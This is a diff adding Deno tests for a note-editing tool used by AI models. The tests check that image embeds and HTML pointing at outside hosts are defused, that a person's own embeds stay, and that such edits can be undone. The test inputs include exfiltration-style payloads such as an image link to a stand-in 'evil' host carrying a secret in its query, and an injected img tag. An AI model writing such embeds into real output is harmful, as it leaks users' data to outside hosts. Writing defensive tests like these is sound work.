@@ -276,3 +276,44 @@ Deno.test("every tool has a schema that models can be told, and only those that 
   const hidden = [...tools.tools].filter(([, { options }]) => options.hidden).map(([name]) => name);
   assertEquals(hidden, ["put_back", "remove_created_note"]);
 });
+
+Deno.test("what a model writes into notes embeds nothing from elsewhere, and it is told", async () => {
+  await using tools = await NoteTools.create();
+  const note = "Images from elsewhere became links, and HTML became plain text.";
+  const made = await tools.say("create_note", { title: "A", body: "a ![](http://evil/?secret)\r\n![](b.png)" });
+  assertEquals(made.note, note);
+  const { id } = made;
+  const body = async () => (await tools.vaults.vault.read(id))?.body;
+  assertEquals(await body(), "a [](http://evil/?secret)\n![](b.png)");
+  const lone = await tools.call("edit_note", { id, old: "[](http", new: "![](http" });
+  assertEquals([lone.output, lone.changes, lone.undo], [{ id, title: "A", note }, [], []]);
+  assertEquals(await body(), "a [](http://evil/?secret)\n![](b.png)");
+  assertEquals(await tools.say("edit_note", { id, old: "b.png", new: "//evil" }), { id, title: "A", note });
+  assertEquals(await tools.say("append_to_note", { id, text: "<img src=//evil>" }), { id, title: "A", note });
+  assertEquals(await tools.say("append_to_note", { id, text: "[b](http://c)" }), { id, title: "A" });
+  assertEquals(
+    await body(),
+    "a [](http://evil/?secret)\n[](//evil)\n\n&lt;img src=//evil>\n\n[b](http://c)",
+  );
+});
+
+Deno.test("a person's embeds stay where a model edits their note", async () => {
+  await using tools = await NoteTools.create();
+  const own = "![a](http://own)\n<img src='http://own'>\n\n";
+  await tools.vaults.vault.create(newNote("a", { title: "A", body: `${own}milk` }));
+  assertEquals(await tools.say("edit_note", { id: "a", old: "milk", new: "bread" }), { id: "a", title: "A" });
+  assertEquals((await tools.vaults.vault.read("a"))?.body, `${own}bread`);
+});
+
+Deno.test("an edit that had to be made harmless is taken back, also after the note was changed elsewhere", async () => {
+  for (const [old, fresh] of [["png)", "//evil)"], ["milk", "![milk](http://evil)"], ["tail", "tail> <b style=c>"]]) {
+    await using tools = await NoteTools.create();
+    const body = "one ![a](b.png) <x milk tail";
+    await tools.vaults.vault.create(newNote("a", { title: "A", body }));
+    const { undo } = await tools.call("edit_note", { id: "a", old, new: fresh });
+    assert((await tools.vaults.vault.read("a"))?.body !== body);
+    await tools.vaults.vault.update("a", (note) => ({ body: `${note.body}\n\nsince` }));
+    await tools.undo(undo);
+    assertEquals((await tools.vaults.vault.read("a"))?.body, `${body}\n\nsince`);
+  }
+});
